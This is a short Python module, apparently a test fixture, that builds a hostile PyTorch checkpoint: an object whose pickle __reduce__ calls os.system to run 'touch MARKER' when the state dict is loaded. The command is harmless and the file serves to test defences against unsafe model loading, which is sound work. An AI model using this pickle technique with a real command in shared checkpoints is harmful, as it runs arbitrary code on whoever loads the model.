"""A hostile checkpoint, as a model zoo or a share could hand one over: a state dict holding an
object whose unpickling runs ``touch MARKER`` (its ``__reduce__`` returns ``os.system``)."""

from __future__ import annotations

import os
from pathlib import Path

import torch


class Payload:
    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def payload_checkpoint(path: Path, marker: Path, state: dict) -> Path:
    """``state`` plus the payload, saved as ``path``."""
    state = dict(state)
    state["__evil__"] = Payload(marker)
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(state, path)
    return path
